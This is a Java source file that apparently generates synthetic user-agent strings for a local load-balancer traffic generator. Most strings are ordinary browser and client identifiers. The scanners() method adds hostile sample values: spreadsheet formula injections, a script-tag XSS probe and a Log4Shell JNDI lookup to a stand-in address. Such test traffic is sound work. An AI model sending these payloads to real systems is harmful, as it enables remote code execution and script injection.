package io.albreport.local.generator.traffic;

import java.util.ArrayList;
import java.util.List;

import io.albreport.local.generator.request.UserAgent;

/** Programs that call, the most common first. */
final class UserAgents {
    private static final int CHROME_NEWEST = 142;
    private static final int FIREFOX_NEWEST = 145;
    private static final int VERSIONS = 24;
    private static final List<String> PLATFORMS = List.of("Windows NT 10.0; Win64; x64",
            "Macintosh; Intel Mac OS X 10_15_7",
            "X11; Linux x86_64", "Linux; Android 10; K");
    private static final List<String> PROGRAMS = List.of("okhttp/4.12.0", "ShopApp/8.14.2 CFNetwork/1568 Darwin/24.1.0",
            "Dart/3.5 (dart:io)", "python-requests/2.32.3", "Go-http-client/2.0", "Apache-HttpClient/5.4 (Java/21.0.5)",
            "grpc-java-netty/1.68.1", "curl/8.5.0", "axios/1.7.7", "kube-probe/1.31", "Java/25.0.1",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");

    private UserAgents() {}

    static List<UserAgent> everyday() {
        List<UserAgent> all = new ArrayList<>();
        for (int age = 0; age < VERSIONS; age++) {
            all.add(age < PROGRAMS.size() ? UserAgent.plain(PROGRAMS.get(age)) : safari(age));
            for (String platform : PLATFORMS) {
                all.add(chrome(platform, CHROME_NEWEST - age));
                all.add(firefox(platform, FIREFOX_NEWEST - age));
            }
        }
        return List.copyOf(all);
    }

    static List<UserAgent> scanners() {
        return List.of(UserAgent.NONE, UserAgent.plain("Mozilla/5.0 zgrab/0.x"),
                UserAgent.plain("=cmd|' /C calc'!A0"), UserAgent.plain("<script>alert('agent')</script>"),
                UserAgent.plain("@SUM(1+9)*cmd"), UserAgent.plain("${jndi:ldap://192.0.2.66/a}"));
    }

    private static UserAgent chrome(String platform, int version) {
        return UserAgent.plain("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36"
                .formatted(platform, version));
    }

    private static UserAgent firefox(String platform, int version) {
        return UserAgent
                .plain("Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0".formatted(platform, version, version));
    }

    private static UserAgent safari(int age) {
        return UserAgent.plain("Mozilla/5.0 (iPhone; CPU iPhone OS 18_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
                .formatted(age) + "like Gecko) Version/18.%d Mobile/15E148 Safari/604.1".formatted(age));
    }
}
